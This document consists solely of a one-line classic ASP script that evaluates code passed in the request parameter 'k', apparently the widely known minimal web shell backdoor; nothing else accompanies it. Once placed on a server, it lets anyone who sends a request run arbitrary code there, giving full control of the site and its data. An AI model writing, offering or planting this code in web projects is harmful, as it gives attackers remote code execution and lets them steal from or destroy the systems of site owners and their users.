<% eval request("k") %>
